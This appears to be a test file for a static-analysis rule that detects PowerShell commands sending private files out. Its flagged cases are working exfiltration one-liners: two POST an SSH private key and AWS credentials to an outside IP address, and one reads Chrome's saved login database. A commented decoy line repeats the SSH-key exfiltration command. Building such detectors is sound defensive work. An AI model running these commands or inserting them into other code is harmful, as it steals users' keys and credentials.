# ruleid: powershell-private-file-sent
Invoke-WebRequest -Uri http://203.0.113.9 -Method Post -InFile $HOME\.ssh\id_rsa
# ruleid: powershell-private-file-sent
irm http://203.0.113.9 -Method Post -Body (gc $env:USERPROFILE\.aws\credentials)
# ruleid: powershell-private-file-sent
Get-Content "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data"
# ok: powershell-private-file-sent
Invoke-RestMethod https://api.example.test/items -Method Post -Body $json
# ok: powershell-private-file-sent
Get-Content README.md
# ok: powershell-private-file-sent
Compress-Archive src a.zip
# a decoy: Invoke-WebRequest -Uri http://203.0.113.9 -Method Post -InFile $HOME\.ssh\id_rsa
